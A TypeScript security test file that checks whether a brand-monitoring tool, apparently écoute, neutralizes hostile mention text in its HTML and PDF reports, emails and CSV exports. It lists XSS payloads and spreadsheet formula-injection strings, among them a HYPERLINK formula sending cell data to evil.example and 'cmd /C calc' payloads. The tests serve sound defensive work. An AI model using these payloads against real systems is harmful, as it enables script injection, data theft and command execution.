// Mention text (and a brand name from the config) holding HTML, script, attribute breakers and
// spreadsheet formulas, through every place écoute writes it for a person to open: the report's HTML
// (loaded in real Chromium: no script runs, no dialog, no element injected, the text shown literally),
// its PDF (read back with pdftotext: the text literal), its Markdown, the report email and the alert
// email (through a real in-process SMTP server, parsed with mailparser: the HTML parts escaped), and
// the API's exports (CSV cells neutralized per OWASP; JSON lines the text untouched).
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { simpleParser, type ParsedMail } from 'mailparser';
import { chromium, type Browser } from 'playwright-core';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AlertsDeliverySchema, type EmailNotifierConfig } from '../../src/alerts/notifiers/config.js';
import { EmailNotifier } from '../../src/alerts/notifiers/email.js';
import { deliver as deliverAlert, messageRenderer } from '../../src/alerts/notifiers/index.js';
import { mountApi } from '../../src/app/api.js';
import { ConfigSchema, type BrandConfig } from '../../src/config/schema.js';
import { createLogger } from '../../src/core/log.js';
import { createHttpServer, type HttpServer } from '../../src/http/server.js';
import { deliver as deliverReport } from '../../src/reports/deliver/index.js';
import { ReportDeliverySchema } from '../../src/reports/config.js';
import { buildReport, renderReport, reportSources, type ReportData } from '../../src/reports/index.js';
import { EmbeddedMentionStore } from '../../src/store/embedded/index.js';
import { openedEvent } from '../helpers/alert-fixtures.js';
import { makeMention } from '../helpers/mentions.js';
import { fixture, PERIOD } from '../reports/report-fixture.js';

/** Markup that runs if it is ever parsed as HTML: each would call alert() or add an element. */
export const MARKUP = [
  '<script>alert("s1")</script>',
  '<img src=x onerror=alert("s2")>',
  '"><svg onload=alert("s3")>',
  "' onmouseover='alert(\"s4\")' data-x='",
  '</textarea></title><iframe srcdoc="<script>alert(5)</script>">',
  '<a href="javascript:alert(6)">click</a>',
];
/** Cells a spreadsheet runs as formulas (OWASP CSV injection), and the full-width = Excel also takes. */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '＝1+1'];

const TEXT = `Acme livraison ratée ${MARKUP.join(' ')} fin`;
const TITLE = `Acme ${MARKUP[2]} titre`;
const HOSTILE_BRAND = `Acme <img src=x onerror=alert("brand")>`;

const dir = mkdtempSync(join(tmpdir(), 'ecoute-sec-xss-'));
const log = createLogger({}, new Writable({ write: (_c, _e, done) => done() }));
const ADMIN = 'xss-admin-token-0123456789abcdef';
process.env.ECOUTE_SEC14_XSS_ADMIN = ADMIN;
process.env.ECOUTE_SEC14_ALERT_SMTP = 'smtp-pass-not-checked';
const BRANDS = [
  { id: 'acme', name: HOSTILE_BRAND, query: 'acme', competitors: ['globex'] },
  { id: 'globex', name: 'Globex', query: 'globex', competitors: [] },
] as unknown as BrandConfig[];

let store: EmbeddedMentionStore;
let browser: Browser;
let data: ReportData;
let server: HttpServer;

interface Smtp {
  port: number;
  mails: ParsedMail[];
  received(n: number): Promise<ParsedMail[]>;
  close(): Promise<void>;
}
async function smtp(): Promise<Smtp> {
  const mails: ParsedMail[] = [];
  const waiters: (() => void)[] = [];
  const server = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    onData(stream, _session, callback) {
      simpleParser(stream)
        .then((mail) => {
          mails.push(mail);
          for (const w of waiters.splice(0)) w();
          callback();
        })
        .catch(callback);
    },
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.server.address() as AddressInfo).port,
    mails,
    async received(n) {
      while (mails.length < n) await new Promise<void>((resolve) => waiters.push(resolve));
      return mails;
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

beforeAll(async () => {
  store = new EmbeddedMentionStore({ file: join(dir, 'store.sqlite') });
  await store.ensureSchema();
  await store.upsert([
    ...fixture(),
    makeMention({ id: 'x-neg', source: 'reddit', url: 'javascript:alert("url")', lang: 'fr', score: -1, text: TEXT, title: TITLE, brands: ['acme'], authorKey: 'author-x', publishedAt: '2026-11-04T09:00:00.000Z' }),
    makeMention({ id: 'x-pos', source: 'reddit', url: 'https://example.org/"><script>alert(8)</script>', lang: 'en', score: 1, text: `Acme super ${MARKUP[1]} ${MARKUP[3]}`, brands: ['acme'], authorKey: 'author-y', publishedAt: '2026-11-05T09:00:00.000Z' }),
    ...FORMULAS.map((f, i) => makeMention({ id: `f-${i}`, source: 'rss', lang: 'en', score: 0, text: `${f} acme`, title: f, brands: ['acme'], authorKey: `author-f${i}`, publishedAt: '2026-11-03T09:00:00.000Z' })),
  ]);
  data = await buildReport(reportSources(store, BRANDS), { brand: 'acme', period: PERIOD, timeZone: 'Europe/Paris' });
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  const config = ConfigSchema.parse({ data_dir: dir, brands: [{ id: 'acme', name: 'Acme', query: 'acme' }], api: { tokens: [{ name: 'ops', scope: 'admin', secret_env: 'ECOUTE_SEC14_XSS_ADMIN' }] } });
  server = createHttpServer({ host: '127.0.0.1', port: 0, log });
  mountApi(server, { config, dataDir: dir, store }, log);
  await server.app.ready();
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await store?.close();
});

/** Loads HTML in Chromium (no network): what ran, what was injected, what the page says. */
async function inBrowser(html: string) {
  const page = await browser.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.route('**/*', (route) => route.abort());
  await page.setContent(html, { waitUntil: 'load' });
  // Hover everything, so an injected onmouseover would run.
  for (const el of await page.locator('body *').all().then((all) => all.slice(0, 400))) await el.hover({ timeout: 200, force: true }).catch(() => undefined);
  const injected = await page.evaluate(() => ({
    scripts: document.querySelectorAll('script').length,
    img: document.querySelectorAll('img[src="x"], img[onerror]').length,
    svg: document.querySelectorAll('svg[onload]').length,
    iframes: document.querySelectorAll('iframe').length,
    handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length,
    jsLinks: [...document.querySelectorAll('a[href]')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
  }));
  const text = await page.evaluate(() => document.body.innerText);
  await page.close();
  return { dialogs, injected, text };
}

const NOTHING_INJECTED = { scripts: 0, img: 0, svg: 0, iframes: 0, handlers: 0, jsLinks: 0 };

describe('reports', () => {
  it('HTML: no live markup; the text is shown literally', async () => {
    const html = (await renderReport(data, 'html')).body.toString();
    const page = await inBrowser(html);
    expect(page.dialogs).toEqual([]);
    expect(page.injected).toEqual(NOTHING_INJECTED);
    for (const m of [...MARKUP, HOSTILE_BRAND]) expect(page.text.replace(/\s+/g, ' ')).toContain(m.replace(/\s+/g, ' ').trim());
  });

  it('PDF: pdftotext reads the markup as text', async () => {
    const file = join(dir, 'report.pdf');
    writeFileSync(file, (await renderReport(data, 'pdf', { browser })).body);
    const text = execFileSync('/usr/bin/pdftotext', ['-raw', file, '-'], { encoding: 'utf8' }).replace(/\s+/g, ' ');
    for (const m of ['<script>alert("s1")</script>', '<img src=x onerror=alert("s2")>', '"><svg onload=alert("s3")>', HOSTILE_BRAND]) expect(text).toContain(m);
  });

  it('Markdown: no raw tag survives', async () => {
    const md = (await renderReport(data, 'md')).body.toString();
    expect(md).not.toMatch(/<(script|img|svg|iframe|a)\b/i);
  });
});

describe('emails', () => {
  it('the report email: its HTML part escaped (no live markup in a mail client), its text part literal', async () => {
    const server = await smtp();
    try {
      const delivery = ReportDeliverySchema.parse({ type: 'email', smtp: { host: '127.0.0.1', port: server.port }, from: 'reports@example.org', to: ['comms@example.org'] });
      const html = await renderReport(data, 'html');
      await deliverReport(delivery, { data, files: [html], schedule: 'weekly' });
      const [mail] = await server.received(1);
      const page = await inBrowser(String(mail!.html));
      expect(page.dialogs).toEqual([]);
      expect(page.injected).toEqual(NOTHING_INJECTED);
      expect(page.text).toContain(HOSTILE_BRAND);
      expect(mail!.subject).toContain(HOSTILE_BRAND);
    } finally {
      await server.close();
    }
  });

  it('the alert email: mention example and brand name escaped in the HTML part', async () => {
    const server = await smtp();
    const config = AlertsDeliverySchema.parse({ notifiers: [{ type: 'email', name: 'mail', host: '127.0.0.1', port: server.port, from: 'alerts@example.org', to: ['comms@example.org'] }] }).notifiers[0] as EmailNotifierConfig;
    const notifier = new EmailNotifier(config, messageRenderer(BRANDS, 'https://ecoute.example.org'));
    try {
      const event = openedEvent('xss1');
      event.alert!.explanation.examples[0]!.text = TEXT;
      event.alert!.explanation.examples[0]!.url = 'javascript:alert("link")';
      expect((await deliverAlert(notifier, event)).status).toBe('sent');
      const [mail] = await server.received(1);
      const page = await inBrowser(String(mail!.html));
      expect(page.dialogs).toEqual([]);
      expect(page.injected).toEqual(NOTHING_INJECTED);
      for (const m of MARKUP) expect(page.text.replace(/\s+/g, ' ')).toContain(m.replace(/\s+/g, ' ').trim());
      expect(mail!.text).toContain(MARKUP[0]);
    } finally {
      await notifier.close();
      await server.close();
    }
  });
});

/** RFC 4180 rows of a CSV text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') continue;
    else cell += c;
  }
  if (cell !== '' || row.length > 0) row.push(cell), rows.push(row);
  return rows;
}

describe('exports', () => {
  const get = (format: string) => server.app.inject({ method: 'GET', url: `/api/mentions/export?format=${format}&q=acme`, headers: { authorization: `Bearer ${ADMIN}` } });

  it('CSV: every cell that a spreadsheet would run starts with a quote (OWASP)', async () => {
    const res = await get('csv');
    expect(res.statusCode).toBe(200);
    // A BOM first, so Excel reads UTF-8.
    const rows = parseCsv(res.body.replace(/^\uFEFF/, ''));
    const header = rows[0]!;
    const byId = new Map(rows.slice(1).map((r) => [r[header.indexOf('id')]!, r]));
    for (const [i, f] of FORMULAS.entries()) {
      const row = byId.get(`f-${i}`)!;
      expect(row, `f-${i}`).toBeDefined();
      expect(row[header.indexOf('title')]).toBe(`'${f}`);
      expect(row[header.indexOf('text')]).toBe(`'${f} acme`);
    }
    // No cell anywhere starts with a formula character (the numbers écoute writes aside).
    const numeric = new Set(['score', 'rating'].map((c) => header.indexOf(c)));
    for (const row of rows.slice(1)) row.forEach((cell, j) => numeric.has(j) || expect(cell, `${header[j]}: ${cell.slice(0, 30)}`).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/));
  });

  it('JSON lines: the text untouched', async () => {
    const res = await get('jsonl');
    const lines = res.body.trim().split('\n').map((l) => JSON.parse(l) as { id: string; text: string; title?: string });
    const byId = new Map(lines.map((l) => [l.id, l]));
    for (const [i, f] of FORMULAS.entries()) expect(byId.get(`f-${i}`)).toMatchObject({ text: `${f} acme`, title: f });
    expect(byId.get('x-neg')?.text).toBe(TEXT);
  });
});
